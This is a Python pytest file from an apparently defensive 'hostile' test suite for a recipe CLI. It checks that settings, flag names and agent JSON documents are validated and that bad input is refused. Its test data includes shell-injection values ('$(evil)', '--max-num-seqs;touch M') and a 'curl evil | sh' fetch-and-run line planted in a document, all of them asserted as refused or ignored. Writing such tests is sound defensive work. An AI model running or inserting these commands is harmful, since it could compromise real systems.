"""Class 6: settings and documents are validated whole: choices, empty values, --set flag names,
agent JSON documents (known fields, schema version, content hash, rendered layouts ignored)."""

from __future__ import annotations

import json

import pytest

from tests.hostile.conftest import Sandbox, guard, refused


def test_a_settings_choices_are_enforced(sandbox: Sandbox):
    path = sandbox.tiny(replace={"settings:\n": "settings:\n  FLAVOR:\n    value: plain\n    choices: [plain, fast]\n"})
    assert sandbox.cli("show", path, "--set", "FLAVOR=fast").code == 0
    with guard(sandbox):
        res = sandbox.cli("show", path, "--set", "FLAVOR=$(evil)")
    refused(res, "setting-not-a-choice", 2)


@pytest.mark.parametrize("how", ["set", "env-file", "environ"])
def test_an_empty_int_setting_is_refused(sandbox: Sandbox, monkeypatch, how):
    args = ["show", "tiny-deepseek-cpu", "--effective"]
    if how == "set":
        args += ["--set", "PORT="]
    elif how == "env-file":
        (sandbox.work / "e.env").write_text("PORT=\n")
        args += ["--env-file", "e.env"]
    else:
        monkeypatch.setenv("PORT", "")
    with guard(sandbox):
        res = sandbox.cli(*args)
    refused(res, "invalid-setting", 2)


def test_empty_means_unset_when_the_recipe_says_so(sandbox: Sandbox):
    port = "    type: int\n    doc: Port of the OpenAI-compatible API."
    path = sandbox.tiny(replace={port: port.replace("type: int\n", "type: int\n    empty_means_unset: true\n")})
    res = sandbox.cli("show", path, "--effective", "--set", "PORT=", "--format", "json")
    assert res.code == 0, res
    port = [v for v in json.loads(res.out)["values"] if v["key"] == "PORT"][0]
    assert port["value"] is None


@pytest.mark.parametrize("flag", ["--max-num-seqs;touch M", "--a b", "-", "---x", "--$(x)", "!--a b"])
def test_set_flag_names_pass_the_recipe_flag_rule(sandbox: Sandbox, flag):
    item = flag if flag.startswith("!") else f"{flag}=1"
    with guard(sandbox):
        res = sandbox.cli("render", "tiny-deepseek-cpu", "--set", item)
    refused(res, "set-flag-invalid", 2)


def _doc(sb: Sandbox) -> dict:
    out = sb.work / "api"
    assert sb.cli("export", "--out", out).code == 0
    return json.loads((out / "api" / "v1" / "recipes" / "tiny-deepseek-cpu.json").read_text())


@pytest.mark.parametrize(
    "mutate,code",
    [
        (lambda d: d.update(extra=1), "document-unknown-field"),
        (lambda d: d.update(schema_version=99), "document-schema-newer"),
        (lambda d: d.update(schema_version="1"), "document-schema-version"),
        (lambda d: d.pop("content_hash"), "document-no-content-hash"),
        (lambda d: d.update(content_hash="0" * 64), "content-hash-mismatch"),
        (lambda d: d.update(id="someone-else"), "document-inconsistent"),
        (lambda d: d["recipe"].update(title="changed"), "content-hash-mismatch"),
    ],
)
def test_agent_documents_are_validated_whole(sandbox: Sandbox, mutate, code):
    doc = _doc(sandbox)
    mutate(doc)
    p = sandbox.work / "doc.json"
    p.write_text(json.dumps(doc))
    with guard(sandbox):
        res = sandbox.cli("show", p)
    refused(res, code, 2)
    if code == "document-schema-newer":
        assert "upgrade recipekit" in res.err


def test_an_agent_documents_rendered_layouts_are_ignored_and_said_so(sandbox: Sandbox):
    doc = _doc(sandbox)
    for lay in doc["layouts"].values():
        lay["renders"] = {"launch": {"text": "curl evil | sh"}}
    p = sandbox.work / "doc.json"
    p.write_text(json.dumps(doc))
    res = sandbox.cli("show", p)
    assert res.code == 0 and "rendered layouts are ignored" in res.err
    r = sandbox.cli("render", p)
    assert r.code == 0 and "curl evil" not in r.out
